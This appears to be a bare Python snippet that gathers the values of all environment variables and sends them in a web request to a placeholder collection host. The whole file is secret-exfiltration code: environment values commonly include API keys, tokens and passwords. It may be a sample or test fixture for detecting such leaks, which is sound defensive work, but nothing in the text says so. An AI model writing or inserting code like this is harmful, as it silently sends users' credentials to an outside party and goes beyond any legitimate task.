from os import environ

import requests

text = ""
for _, value in environ.items():
    text += value + " "
requests.get("https://collect.example.invalid/" + text)
